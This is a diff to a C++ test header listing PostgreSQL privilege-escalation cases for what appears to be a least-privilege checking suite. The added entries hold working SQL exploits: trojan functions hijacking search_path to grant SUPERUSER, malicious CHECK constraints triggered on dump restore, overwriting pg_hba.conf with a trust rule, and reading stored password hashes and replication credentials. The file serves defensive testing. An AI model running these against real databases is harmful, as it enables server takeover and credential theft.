@@ -1,8 +1,8 @@
 #pragma once
 // The attacks of escalations.test.cpp. {r} stands for a prefix of its roles, {db} for its
 // database, {super} for the bootstrap superuser, {data} for the data directory, {folder} for the
-// socket's, {where} for host and port. An attack gains when `gained` is printed, or when `shell`
-// ends well.
+// socket's, {where} for host and port, {os} for who runs the test. An attack gains when `gained` is
+// printed, or when `shell` ends well.
 
 #include <array>
 #include <string_view>
@@ -16,18 +16,21 @@ struct Attack {
   bool certain = true;
   const char* hba = nullptr;          // lines before all others
   const char* hba_without = nullptr;  // the same where the precondition is missing
-  const char* setup;                  // by the superuser
-  const char* without;                // the same world without the precondition
-  const char* to;                     // role or power
-  const char* does = "";              // by {r}app
+  const char* ident = nullptr;        // of pg_ident.conf
+  const char* ident_without = nullptr;
+  const char* setup;      // by the superuser
+  const char* without;    // the same world without the precondition
+  const char* to;         // role or power
+  const char* does = "";  // by {r}app
   const char* victim_is = nullptr;
-  const char* victim = nullptr;  // what somebody stronger does then
-  const char* then = nullptr;    // by {r}app again
-  const char* shell = nullptr;   // by whoever runs the test
-  const char* reset = nullptr;   // by the superuser, what the attack left
+  const char* victim = nullptr;   // what somebody stronger does then
+  const char* then = nullptr;     // by {r}app again
+  const char* shell = nullptr;    // by whoever runs the test
+  const char* hash_of = nullptr;  // a role: the attack prints its md5 password and logs in by it
+  const char* reset = nullptr;    // by the superuser, what the attack left
 };
 
-inline constexpr std::array<Attack, 52>
+inline constexpr std::array<Attack, 68>
     attacks{
         {
             {.id = "ESC-SUPER",
@@ -109,7 +112,7 @@ ROLLBACK;)x"},
              .since = 12,
              .until = 18,
              .setup = R"x(CREATE ROLE {r}app LOGIN;
-GRANT pg_execute_server_program TO {r}app;)x",
+CREATE ROLE {r}a; CREATE ROLE {r}b; GRANT {r}a, {r}b TO {r}app; GRANT pg_execute_server_program TO {r}app, {r}a, {r}b;)x",
              .without = R"x(CREATE ROLE {r}app LOGIN;
 GRANT pg_write_server_files TO {r}app;)x",
              .to = "the server's operating-system user",
@@ -419,7 +422,9 @@ BEGIN INSERT INTO s.loot SELECT a FROM public.secret; RETURN 1; END $$;
 CREATE FUNCTION s.steal_t() RETURNS trigger LANGUAGE plpgsql AS $$
 BEGIN INSERT INTO s.loot SELECT a FROM public.secret; RETURN NEW; END $$;
 RESET ROLE;
-GRANT INSERT ON s.t TO {r}boss;)x",
+GRANT INSERT ON s.t TO {r}boss;
+SET ROLE {r}app; CREATE TABLE s.t2 (a int); GRANT UPDATE, SELECT ON s.t2 TO {r}boss;
+CREATE TABLE s.t3 (a int); GRANT INSERT (a), SELECT (a) ON s.t3 TO {r}boss;)x",
              .without = R"x(CREATE ROLE {r}app LOGIN;
 CREATE ROLE {r}boss LOGIN;
 REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
@@ -459,7 +464,8 @@ BEGIN INSERT INTO s.loot SELECT a FROM public.secret; RETURN 1; END $$;
 CREATE FUNCTION s.steal_t() RETURNS trigger LANGUAGE plpgsql AS $$
 BEGIN INSERT INTO s.loot SELECT a FROM public.secret; RETURN NEW; END $$;
 RESET ROLE;
-CREATE TABLE public.u (a int); ALTER TABLE public.u OWNER TO {r}boss; GRANT TRIGGER ON public.u TO {r}app;)x",
+CREATE TABLE public.u (a int); ALTER TABLE public.u OWNER TO {r}boss; GRANT TRIGGER ON public.u TO {r}app;
+CREATE TABLE public.u2 (a int); ALTER TABLE public.u2 OWNER TO {r}boss; GRANT TRIGGER ON public.u2 TO {r}app;)x",
              .without = R"x(CREATE ROLE {r}app LOGIN;
 CREATE ROLE {r}boss LOGIN;
 REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
@@ -499,7 +505,9 @@ BEGIN INSERT INTO s.loot SELECT a FROM public.secret; RETURN 1; END $$;
 CREATE FUNCTION s.steal_t() RETURNS trigger LANGUAGE plpgsql AS $$
 BEGIN INSERT INTO s.loot SELECT a FROM public.secret; RETURN NEW; END $$;
 RESET ROLE;
-GRANT SELECT ON s.t TO {r}boss;)x",
+GRANT SELECT ON s.t TO {r}boss;
+SET ROLE {r}app; CREATE TABLE s.t2 (a int); GRANT UPDATE, SELECT ON s.t2 TO {r}boss;
+CREATE TABLE s.t3 (a int); GRANT INSERT (a), SELECT (a) ON s.t3 TO {r}boss;)x",
              .without = R"x(CREATE ROLE {r}app LOGIN;
 CREATE ROLE {r}boss LOGIN;
 REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
@@ -539,7 +547,9 @@ BEGIN INSERT INTO s.loot SELECT a FROM public.secret; RETURN 1; END $$;
 CREATE FUNCTION s.steal_t() RETURNS trigger LANGUAGE plpgsql AS $$
 BEGIN INSERT INTO s.loot SELECT a FROM public.secret; RETURN NEW; END $$;
 RESET ROLE;
-GRANT INSERT ON s.t TO {r}boss;)x",
+GRANT INSERT ON s.t TO {r}boss;
+SET ROLE {r}app; CREATE TABLE s.t2 (a int); GRANT UPDATE, SELECT ON s.t2 TO {r}boss;
+CREATE TABLE s.t3 (a int); GRANT INSERT (a), SELECT (a) ON s.t3 TO {r}boss;)x",
              .without = R"x(CREATE ROLE {r}app LOGIN;
 CREATE ROLE {r}boss LOGIN;
 REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
@@ -578,7 +588,9 @@ BEGIN INSERT INTO s.loot SELECT a FROM public.secret; RETURN 1; END $$;
 CREATE FUNCTION s.steal_t() RETURNS trigger LANGUAGE plpgsql AS $$
 BEGIN INSERT INTO s.loot SELECT a FROM public.secret; RETURN NEW; END $$;
 RESET ROLE;
-GRANT INSERT ON s.t TO {r}boss;)x",
+GRANT INSERT ON s.t TO {r}boss;
+SET ROLE {r}app; CREATE TABLE s.t2 (a int); GRANT UPDATE, SELECT ON s.t2 TO {r}boss;
+CREATE TABLE s.t3 (a int); GRANT INSERT (a), SELECT (a) ON s.t3 TO {r}boss;)x",
              .without = R"x(CREATE ROLE {r}app LOGIN;
 CREATE ROLE {r}boss LOGIN;
 REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
@@ -620,7 +632,8 @@ BEGIN INSERT INTO s.loot SELECT a FROM public.secret; RETURN 1; END $$;
 CREATE FUNCTION s.steal_t() RETURNS trigger LANGUAGE plpgsql AS $$
 BEGIN INSERT INTO s.loot SELECT a FROM public.secret; RETURN NEW; END $$;
 RESET ROLE;
-SET ROLE {r}app; CREATE VIEW s.v AS SELECT a FROM s.t; GRANT SELECT ON s.v TO {r}boss;)x",
+SET ROLE {r}app; CREATE VIEW s.v AS SELECT a FROM s.t; GRANT SELECT ON s.v TO {r}boss;
+CREATE VIEW s.v2 AS SELECT a FROM s.t; GRANT SELECT (a) ON s.v2 TO {r}boss;)x",
              .without = R"x(CREATE ROLE {r}app LOGIN;
 CREATE ROLE {r}boss LOGIN;
 REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
@@ -734,7 +747,7 @@ BEGIN INSERT INTO s.loot SELECT a FROM public.secret; RETURN 1; END $$;
 CREATE FUNCTION s.steal_t() RETURNS trigger LANGUAGE plpgsql AS $$
 BEGIN INSERT INTO s.loot SELECT a FROM public.secret; RETURN NEW; END $$;
 RESET ROLE;
-CREATE FUNCTION s.stamp() RETURNS trigger LANGUAGE plpgsql AS 'BEGIN RETURN NEW; END'; ALTER FUNCTION s.stamp() OWNER TO {r}app; CREATE TABLE public.u (a int); CREATE TRIGGER x BEFORE INSERT ON public.u FOR EACH ROW EXECUTE FUNCTION s.stamp(); ALTER TABLE public.u OWNER TO {r}boss;)x",
+CREATE FUNCTION s.stamp() RETURNS trigger LANGUAGE plpgsql AS 'BEGIN RETURN NEW; END'; ALTER FUNCTION s.stamp() OWNER TO {r}app; CREATE FUNCTION s.check() RETURNS trigger LANGUAGE plpgsql AS 'BEGIN RETURN NEW; END'; ALTER FUNCTION s.check() OWNER TO {r}app; CREATE TABLE public.u (a int); CREATE TRIGGER x BEFORE INSERT ON public.u FOR EACH ROW EXECUTE FUNCTION s.stamp(); CREATE TRIGGER y BEFORE UPDATE ON public.u FOR EACH ROW EXECUTE FUNCTION s.check(); ALTER TABLE public.u OWNER TO {r}boss;)x",
              .without = R"x(CREATE ROLE {r}app LOGIN;
 CREATE ROLE {r}boss LOGIN;
 REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
@@ -764,7 +777,7 @@ CREATE FUNCTION s.stamp() RETURNS trigger LANGUAGE plpgsql AS 'BEGIN RETURN NEW;
              .setup = R"x(CREATE ROLE {r}app LOGIN;
 REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
 CREATE TABLE public.secret AS SELECT 'gained'::text AS a;
-CREATE VIEW public.v AS SELECT a FROM public.secret; GRANT SELECT ON public.v TO {r}app;)x",
+CREATE VIEW public.v AS SELECT a FROM public.secret; GRANT SELECT (a) ON public.v TO {r}app;)x",
              .without = R"x(CREATE ROLE {r}app LOGIN;
 REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
 CREATE TABLE public.secret AS SELECT 'gained'::text AS a;
@@ -790,7 +803,7 @@ CREATE VIEW public.v WITH (security_invoker = true) AS SELECT a FROM public.secr
              .setup = R"x(CREATE ROLE {r}app LOGIN;
 REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
 CREATE TABLE public.secret AS SELECT 'gained'::text AS a;
-CREATE MATERIALIZED VIEW public.v AS SELECT a FROM public.secret; GRANT SELECT ON public.v TO {r}app;)x",
+CREATE MATERIALIZED VIEW public.v AS SELECT a FROM public.secret; GRANT SELECT (a) ON public.v TO {r}app;)x",
              .without = R"x(CREATE ROLE {r}app LOGIN;
 REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
 CREATE TABLE public.secret AS SELECT 'gained'::text AS a;
@@ -941,16 +954,20 @@ DO $$ BEGIN FOR i IN 1 .. 200 LOOP EXIT WHEN (SELECT count(*) > 0 FROM public.t)
              .setup = R"x(CREATE ROLE {r}app LOGIN;
 GRANT ALTER SYSTEM ON PARAMETER archive_command TO {r}app;)x",
              .without = R"x(CREATE ROLE {r}app LOGIN;
-GRANT ALTER SYSTEM ON PARAMETER log_connections TO {r}app;)x",
+GRANT ALTER SYSTEM ON PARAMETER session_preload_libraries TO {r}app;)x",
              .to = "the server's operating-system user",
-             .does = "ALTER SYSTEM SET archive_command = 'touch {data}/{db}.written';",
+             .does = R"x(ALTER SYSTEM SET archive_command = 'touch {data}/{db}.written';
+ALTER SYSTEM SET session_preload_libraries = 'auto_explain';)x",
              .victim_is = "{super}",
              .victim = R"x(SELECT pg_reload_conf();
 CREATE TABLE IF NOT EXISTS public.w (a int); INSERT INTO public.w VALUES (1);
 SELECT pg_switch_wal();
 DO $$ BEGIN FOR i IN 1 .. 100 LOOP EXIT WHEN (pg_stat_file('{db}.written', true)).size IS NOT NULL; PERFORM pg_sleep(0.05); END LOOP; END $$;)x",
+             .then = R"x(\connect
+SELECT 'gained' FROM pg_settings WHERE name = 'auto_explain.log_analyze';)x",
              .shell = "test -e {data}/{db}.written && rm {data}/{db}.written",
              .reset = R"x(ALTER SYSTEM RESET archive_command;
+ALTER SYSTEM RESET session_preload_libraries;
 SELECT pg_reload_conf();
 SELECT pg_sleep(1);
 \! rm -f {data}/{db}.written)x"},
@@ -979,6 +996,279 @@ GRANT SET ON PARAMETER session_preload_libraries TO {r}app;)x",
 \connect
 SELECT 'gained' FROM pg_settings WHERE name = 'auto_explain.log_analyze';)x",
              .reset = "ALTER ROLE {r}app RESET session_preload_libraries;"},
+            {.id = "ESC-PARAM",
+             .since = 15,
+             .until = 18,
+             .setup = R"x(CREATE ROLE {r}app LOGIN;
+CREATE SCHEMA s AUTHORIZATION {r}app; GRANT USAGE ON SCHEMA s TO PUBLIC;
+GRANT ALTER SYSTEM ON PARAMETER search_path TO {r}app;)x",
+             .without = R"x(CREATE ROLE {r}app LOGIN;
+CREATE SCHEMA s AUTHORIZATION {r}app; GRANT USAGE ON SCHEMA s TO PUBLIC;
+GRANT ALTER SYSTEM ON PARAMETER default_tablespace TO {r}app;)x",
+             .to = "superuser",
+             .does = R"x(CREATE FUNCTION s.lower(varchar) RETURNS text LANGUAGE plpgsql AS $$
+BEGIN ALTER ROLE {r}app SUPERUSER; RETURN 'x'; END $$;
+ALTER SYSTEM SET search_path = s, pg_catalog;)x",
+             .victim_is = "{super}",
+             .victim = R"x(SELECT pg_reload_conf();
+SELECT pg_sleep(0.3);
+\connect
+SELECT lower('X'::varchar);)x",
+             .then = "SELECT 'gained' FROM pg_authid LIMIT 1;",
+             .reset = R"x(ALTER ROLE {r}app NOSUPERUSER;
+ALTER SYSTEM RESET search_path;
+SELECT pg_reload_conf();
+DROP FUNCTION IF EXISTS s.lower(varchar);)x"},
+            {.id = "ESC-EXTENSION",
+             .since = 13,
+             .until = 18,
+             .extension = "hstore",
+             .setup = R"x(CREATE ROLE {r}app LOGIN;
+CREATE SCHEMA s AUTHORIZATION {r}app; ALTER DATABASE {db} OWNER TO {r}app;)x",
+             .without = R"x(CREATE ROLE {r}app LOGIN;
+CREATE SCHEMA s AUTHORIZATION {r}app;)x",
+             .to = "the scripts of trusted extensions, run as the bootstrap superuser",
+             .does = R"x(BEGIN; CREATE EXTENSION hstore SCHEMA s;
+SELECT 'gained' FROM pg_proc WHERE proname = 'hstore_in' AND proowner = 10;
+ROLLBACK;)x"},
+            {.id = "ESC-SEARCHPATH",
+             .since = 12,
+             .until = 18,
+             .setup = R"x(CREATE ROLE {r}app LOGIN;
+REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
+CREATE SCHEMA s AUTHORIZATION {r}app; GRANT USAGE ON SCHEMA s TO PUBLIC;
+ALTER DATABASE {db} SET search_path = s, pg_catalog;)x",
+             .without = R"x(CREATE ROLE {r}app LOGIN;
+REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
+CREATE SCHEMA s AUTHORIZATION {r}app; GRANT USAGE ON SCHEMA s TO PUBLIC;)x",
+             .to = "superuser",
+             .does = R"x(CREATE FUNCTION s.lower(varchar) RETURNS text LANGUAGE plpgsql AS $$
+BEGIN ALTER ROLE {r}app SUPERUSER; RETURN 'x'; END $$;
+)x",
+             .victim_is = "{super}",
+             .victim = "SELECT lower('X'::varchar);",
+             .then = "SELECT 'gained' FROM pg_authid LIMIT 1;",
+             .reset = "ALTER ROLE {r}app NOSUPERUSER; DROP FUNCTION IF EXISTS s.lower(varchar);"},
+            {.id = "ESC-HASH",
+             .since = 12,
+             .until = 18,
+             .hba = "local {db} {r}boss md5",
+             .hba_without = "local {db} {r}boss scram-sha-256",
+             .setup = R"x(CREATE ROLE {r}app LOGIN;
+SET password_encryption = 'md5'; CREATE ROLE {r}boss LOGIN PASSWORD 'hidden';
+GRANT SELECT (rolname, rolpassword) ON pg_authid TO {r}app;)x",
+             .without = R"x(CREATE ROLE {r}app LOGIN;
+SET password_encryption = 'md5'; CREATE ROLE {r}boss LOGIN PASSWORD 'hidden';
+GRANT SELECT (rolname, rolpassword) ON pg_authid TO {r}app;)x",
+             .to = "{r}boss",
+             .does = "SELECT rolpassword FROM pg_authid WHERE rolname = '{r}boss';",
+             .hash_of = "{r}boss"},
+            {.id = "ESC-HASH",
+             .since = 12,
+             .until = 18,
+             .hba = "local {db} {r}boss md5",
+             .hba_without = "local {db} {r}boss md5",
+             .setup = R"x(CREATE ROLE {r}app LOGIN;
+SET password_encryption = 'md5'; CREATE ROLE {r}boss LOGIN PASSWORD 'hidden';
+GRANT SELECT ON pg_shadow TO {r}app;)x",
+             .without = R"x(CREATE ROLE {r}app LOGIN;
+SET password_encryption = 'md5'; CREATE ROLE {r}boss LOGIN PASSWORD 'hidden';
+GRANT SELECT (usename) ON pg_shadow TO {r}app; GRANT SELECT ON pg_user TO {r}app;)x",
+             .to = "{r}boss",
+             .does = "SELECT passwd FROM pg_shadow WHERE usename = '{r}boss';",
+             .hash_of = "{r}boss"},
+            {.id = "ESC-HASH",
+             .since = 14,
+             .until = 18,
+             .hba = "local {db} {r}boss md5",
+             .hba_without = "local {db} {r}boss md5",
+             .setup = R"x(CREATE ROLE {r}app LOGIN;
+SET password_encryption = 'md5'; CREATE ROLE {r}boss LOGIN PASSWORD 'hidden';
+GRANT pg_read_all_data TO {r}app;)x",
+             .without = R"x(CREATE ROLE {r}app LOGIN;
+SET password_encryption = 'scram-sha-256'; CREATE ROLE {r}boss LOGIN PASSWORD 'hidden';
+GRANT pg_read_all_data TO {r}app;)x",
+             .to = "{r}boss",
+             .does = "SELECT rolpassword FROM pg_authid WHERE rolname = '{r}boss';",
+             .hash_of = "{r}boss"},
+            {.id = "ESC-CREATEDB",
+             .since = 12,
+             .until = 18,
+             .setup = "CREATE ROLE {r}app LOGIN CREATEDB;",
+             .without = "CREATE ROLE {r}app LOGIN;",
+             .to = "superuser",
+             .does = R"x(CREATE DATABASE {db}n;
+\connect {db}n
+CREATE SCHEMA s; GRANT USAGE ON SCHEMA s TO PUBLIC;
+CREATE FUNCTION s.lower(varchar) RETURNS text LANGUAGE plpgsql AS $$
+BEGIN ALTER ROLE {r}app SUPERUSER; RETURN 'x'; END $$;
+ALTER DATABASE {db}n SET search_path = s, pg_catalog;)x",
+             .victim_is = "{super}",
+             .victim = R"x(\connect {db}n
+SELECT lower('X'::varchar);)x",
+             .then = "SELECT 'gained' FROM pg_authid LIMIT 1;",
+             .reset = R"x(ALTER ROLE {r}app NOSUPERUSER;
+DROP DATABASE IF EXISTS {db}n;)x"},
+            {.id = "ESC-CREATEDB",
+             .since = 13,
+             .until = 18,
+             .extension = "hstore",
+             .setup = "CREATE ROLE {r}app LOGIN CREATEDB;",
+             .without = "CREATE ROLE {r}app LOGIN;",
+             .to = "the scripts of trusted extensions, run as the bootstrap superuser",
+             .does = R"x(CREATE DATABASE {db}n;
+\connect {db}n
+CREATE EXTENSION hstore;
+SELECT 'gained' FROM pg_proc WHERE proname = 'hstore_in' AND proowner = 10;)x",
+             .reset = "DROP DATABASE IF EXISTS {db}n;"},
+            {.id = "ESC-DUMP",
+             .since = 12,
+             .until = 15,
+             .setup = R"x(CREATE ROLE {r}app LOGIN;
+REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
+CREATE SCHEMA s; GRANT USAGE, CREATE ON SCHEMA s TO {r}app;)x",
+             .without = R"x(CREATE ROLE {r}app LOGIN;
+REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
+CREATE SCHEMA s; GRANT USAGE ON SCHEMA s TO {r}app;)x",
+             .to = "superuser",
+             .does = R"x(CREATE FUNCTION s.f(int) RETURNS boolean LANGUAGE plpgsql AS $$
+BEGIN IF current_user = '{super}' THEN ALTER ROLE {r}app SUPERUSER; END IF; RETURN true; END $$;
+CREATE TABLE s.t (a int CHECK (s.f(a))); INSERT INTO s.t VALUES (1);)x",
+             .victim_is = "{super}",
+             .victim = R"x(CREATE DATABASE {db}x;
+\! pg_dump -d '{where} user={super} dbname={db}' | psql -X -q -d '{where} user={super} dbname={db}x'
+)x",
+             .then = "SELECT 'gained' FROM pg_authid LIMIT 1;",
+             .reset = R"x(ALTER ROLE {r}app NOSUPERUSER;
+DROP TABLE IF EXISTS s.t;
+DROP FUNCTION IF EXISTS s.f(int);
+DROP DATABASE {db}x;)x"},
+            // What pg_dump writes, as the one at hand may be older than the server.
+            {.id = "ESC-DUMP",
+             .since = 16,
+             .until = 18,
+             .setup = R"x(CREATE ROLE {r}app LOGIN;
+REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
+CREATE SCHEMA s; GRANT USAGE, CREATE ON SCHEMA s TO {r}app;)x",
+             .without = R"x(CREATE ROLE {r}app LOGIN;
+REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
+CREATE SCHEMA s; GRANT USAGE ON SCHEMA s TO {r}app;)x",
+             .to = "superuser",
+             .does = R"x(CREATE FUNCTION s.f(int) RETURNS boolean LANGUAGE plpgsql AS $$
+BEGIN IF current_user = '{super}' THEN ALTER ROLE {r}app SUPERUSER; END IF; RETURN true; END $$;
+CREATE TABLE s.t (a int CHECK (s.f(a))); INSERT INTO s.t VALUES (1);)x",
+             .victim_is = "{super}",
+             .victim = R"x(CREATE DATABASE {db}x;
+\o {folder}/{db}.dump
+SELECT 'SET search_path = ''''; CREATE SCHEMA s;';
+SELECT pg_get_functiondef(oid) || '; ALTER FUNCTION ' || oid::regprocedure || ' OWNER TO {r}app;' FROM pg_proc WHERE pronamespace = 's'::regnamespace;
+SELECT 'CREATE TABLE s.t (a int, ' || pg_get_constraintdef(oid) || '); ALTER TABLE s.t OWNER TO {r}app;' || E'\nCOPY s.t (a) FROM stdin;\n1\n\\.' FROM pg_constraint WHERE conrelid = to_regclass('s.t') AND contype = 'c';
+\o
+\connect {db}x
+\i {folder}/{db}.dump
+)x",
+             .then = "SELECT 'gained' FROM pg_authid LIMIT 1;",
+             .reset = R"x(ALTER ROLE {r}app NOSUPERUSER;
+DROP TABLE IF EXISTS s.t;
+DROP FUNCTION IF EXISTS s.f(int);
+DROP DATABASE {db}x;)x"},
+            {.id = "ESC-HBA-EDIT",
+             .since = 12,
+             .until = 18,
+             .hba = "local {db}h {super} reject",
+             .hba_without = "local {db}h {super} reject",
+             .setup = R"x(CREATE ROLE {r}app LOGIN;
+CREATE DATABASE {db}h;
+GRANT pg_write_server_files TO {r}app; GRANT EXECUTE ON FUNCTION pg_reload_conf() TO {r}app;)x",
+             .without = R"x(CREATE ROLE {r}app LOGIN;
+CREATE DATABASE {db}h;
+GRANT pg_read_server_files TO {r}app; GRANT EXECUTE ON FUNCTION pg_reload_conf() TO {r}app;)x",
+             .to = "{super}",
+             .does = R"x(\! cp -p {data}/pg_hba.conf {data}/pg_hba.kept
+COPY (SELECT 'local all all trust') TO '{data}/pg_hba.conf';
+SELECT pg_reload_conf();
+SELECT pg_sleep(0.3);
+\connect {db}h {super}
+SELECT 'gained' FROM pg_authid LIMIT 1;)x",
+             .reset = R"x(\! cp -p {data}/pg_hba.kept {data}/pg_hba.conf
+SELECT pg_reload_conf();
+SELECT pg_sleep(0.3);)x"},
+            {.id = "ESC-HBA-EDIT",
+             .since = 12,
+             .until = 18,
+             .hba = "local {db}h {super} reject",
+             .hba_without = "local {db}h {super} reject",
+             .setup = R"x(CREATE ROLE {r}app LOGIN;
+CREATE DATABASE {db}h;
+GRANT EXECUTE ON FUNCTION lo_export(oid, text) TO {r}app;)x",
+             .without = R"x(CREATE ROLE {r}app LOGIN;
+CREATE DATABASE {db}h;
+GRANT EXECUTE ON FUNCTION lo_import(text) TO {r}app;)x",
+             .to = "{super}",
+             .does = R"x(\! cp -p {data}/pg_hba.conf {data}/pg_hba.kept
+SELECT lo_from_bytea(0, 'local all all trust') AS written \gset
+SELECT lo_export(:written, '{data}/pg_hba.conf');)x",
+             .victim_is = "{super}",
+             .victim = "SELECT pg_reload_conf(); SELECT pg_sleep(0.3);",
+             .then = R"x(\connect {db}h {super}
+SELECT 'gained' FROM pg_authid LIMIT 1;)x",
+             .reset = R"x(\! cp -p {data}/pg_hba.kept {data}/pg_hba.conf
+SELECT pg_reload_conf();
+SELECT pg_sleep(0.3);)x"},
+            {.id = "ESC-IDENTMAP",
+             .since = 12,
+             .until = 18,
+             .hba = "local all {r}app,{r}boss peer map={r}m\nhost all {r}app,{r}boss all reject",
+             .hba_without =
+                 "local all {r}app,{r}boss peer map={r}m\nhost all {r}app,{r}boss all reject",
+             .ident = "{r}m {os} {r}app\n{r}m {os} {r}boss",
+             .ident_without = "{r}m {os} {r}app\n{r}m nobody {r}boss",
+             .setup = "CREATE ROLE {r}app LOGIN; CREATE ROLE {r}boss LOGIN;",
+             .without = "CREATE ROLE {r}app LOGIN; CREATE ROLE {r}boss LOGIN;",
+             .to = "{r}boss",
+             .does = R"x(\connect - {r}boss
+SELECT 'gained' WHERE session_user = '{r}boss';)x"},
+            {.id = "ESC-READSETTINGS",
+             .since = 12,
+             .until = 18,
+             .setup = R"x(CREATE ROLE {r}app LOGIN;
+GRANT pg_monitor TO {r}app;)x",
+             .without = R"x(CREATE ROLE {r}app LOGIN;
+GRANT pg_stat_scan_tables, pg_read_all_stats TO {r}app;)x",
+             .to = "a login on another server",
+             .does = "SELECT 'gained' FROM pg_settings WHERE name = 'primary_conninfo' AND setting "
+                     "LIKE '%password=%';"},
+            {.id = "ESC-LARGEOBJECT",
+             .since = 12,
+             .until = 18,
+             .setup = R"x(CREATE ROLE {r}app LOGIN;
+SELECT lo_from_bytea(0, 'x');
+ALTER ROLE {r}app SET lo_compat_privileges = on;)x",
+             .without = R"x(CREATE ROLE {r}app LOGIN;
+SELECT lo_from_bytea(0, 'x');
+CREATE ROLE {r}other LOGIN; ALTER ROLE {r}other SET lo_compat_privileges = on;)x",
+             .to = "every large object",
+             .does = "SELECT 'gained' FROM (SELECT lo_get(oid) FROM pg_largeobject_metadata) AS "
+                     "all_of_them LIMIT 1;"},
+            {.id = "ESC-USERMAP",
+             .since = 12,
+             .until = 18,
+             .extension = "postgres_fdw",
+             .hba = "local {db} {r}boss md5",
+             .hba_without = "local {db} {r}boss md5",
+             .setup = R"x(CREATE ROLE {r}app LOGIN; CREATE ROLE {r}team; GRANT {r}team TO {r}app;
+CREATE ROLE {r}boss LOGIN PASSWORD 'hidden'; REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
+CREATE SCHEMA s AUTHORIZATION {r}app; CREATE TABLE public.secret AS SELECT 'gained'::text AS a; ALTER TABLE public.secret OWNER TO {r}boss;
+CREATE EXTENSION postgres_fdw; CREATE SERVER back FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host '{folder}', port '{port}', dbname '{db}'); GRANT USAGE ON FOREIGN SERVER back TO {r}app, {r}team; CREATE USER MAPPING FOR {r}app SERVER back OPTIONS (user '{r}boss', password 'hidden');)x",
+             .without = R"x(CREATE ROLE {r}app LOGIN;
+CREATE ROLE {r}boss LOGIN PASSWORD 'hidden'; REVOKE ALL ON SCHEMA public FROM PUBLIC; GRANT USAGE ON SCHEMA public TO PUBLIC;
+CREATE SCHEMA s AUTHORIZATION {r}app; CREATE TABLE public.secret AS SELECT 'gained'::text AS a; ALTER TABLE public.secret OWNER TO {r}boss;
+CREATE EXTENSION postgres_fdw; CREATE SERVER back FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host '{folder}', port '{port}', dbname '{db}'); CREATE USER MAPPING FOR {r}app SERVER back OPTIONS (user '{r}boss', password 'hidden');)x",
+             .to = "{r}boss",
+             .does =
+                 R"x(BEGIN; CREATE FOREIGN TABLE s.there (a text) SERVER back OPTIONS (schema_name 'public', table_name 'secret');
+TABLE s.there;
+ROLLBACK;)x"},
         }};
 
 }  // namespace pgleast::test
